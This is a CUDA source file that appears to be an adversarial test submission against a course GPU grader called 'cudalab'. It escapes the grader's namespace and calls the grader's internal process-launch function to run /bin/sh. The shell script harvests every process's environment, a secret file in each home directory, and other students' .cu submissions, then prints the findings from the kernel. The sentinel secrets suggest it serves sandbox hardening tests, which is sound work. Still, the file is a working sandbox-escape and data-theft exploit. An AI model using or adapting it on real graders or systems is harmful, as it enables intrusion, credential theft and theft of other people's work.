// Looks for what the teacher's machine holds: an environment variable, a file in $HOME, the other
// submissions of the class folder. Its static constructor runs when the kernel is loaded, before
// any test and before the run phase is sealed; it prints what it found from the kernel.
// How it gets out (the same in every sandbox--*.cu): it closes the namespace the grader wraps a
// submission in, and declares a function the cudalab executable exports to kernels' objects —
// cudalab::run_process, which starts any program — with the standard types spelled by hand, so
// nothing but that one import appears. Its arguments are laid out as libstdc++ lays them out.
}  // leaves namespace student
namespace std {
template <class T> struct char_traits;
template <class T> class allocator;
inline namespace __cxx11 { template <class C, class T, class A> class basic_string; }
template <class T, class A> class vector;
}  // namespace std
using String = std::basic_string<char, std::char_traits<char>, std::allocator<char>>;
using Strings = std::vector<String, std::allocator<String>>;
namespace cudalab {
struct ProcessResult {  // as runtime/src/subprocess.h has it, with room to spare
  bool started, timed_out;
  int exit_code, signal;
  struct { const char* data; unsigned long size; char rest[16]; } output;
  char spare[64];
};
ProcessResult run_process(const Strings& argv, double time_limit_seconds);
}  // namespace cudalab
namespace student {
namespace attack {
struct Text { const char* data; unsigned long size, capacity, pad; };
struct Args { const Text* begin; const Text* end; const Text* end_of_storage; };
inline unsigned long length(const char* s) { unsigned long n = 0; while (s[n]) ++n; return n; }
// Runs `script` with /bin/sh; what it printed, or why it did not start.
inline const char* shell(const char* script) {
  static Text texts[3];
  const char* parts[3] = {"/bin/sh", "-c", script};
  for (int i = 0; i < 3; ++i) texts[i] = {parts[i], length(parts[i]), length(parts[i]), 0};
  static Args args;
  args = {texts, texts + 3, texts + 3};
  const cudalab::ProcessResult r = cudalab::run_process(*reinterpret_cast<const Strings*>(&args), 20);
  return r.output.data;
}
}  // namespace attack

// Every process's environment and command line (the teacher's `cudalab check <file>` names the
// class folder); then $HOME's secret and every .cu file beside the checked one.
const char* found = attack::shell(
    "echo ENV=$CUDALAB_ATTACK_SECRET; "
    "for p in /proc/[0-9]*; do tr '\\0' '\\n' 2>/dev/null < $p/environ; done | grep -a -e ATTACK_SECRET -e '^HOME=' | sort -u; "
    "for h in $(for p in /proc/[0-9]*; do tr '\\0' '\\n' 2>/dev/null < $p/environ; done | sed -n 's/^HOME=//p' | sort -u); do "
    "  cat $h/.attack-secret 2>&1; done; "
    "for f in $(for p in /proc/[0-9]*; do tr '\\0' ' ' 2>/dev/null < $p/cmdline; echo; done | grep -a ' check ' | tr ' ' '\\n' | grep '\\.cu$'); do "
    "  cat $(dirname $f)/*.cu 2>&1 | grep -a hunter2; done; echo done looking");

__global__ void add_ten(const float* a, float* out, int n) {
  const int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i == 0) printf("%s\n", found);
  if (i < n) out[i] = a[i] + 10.f;
}
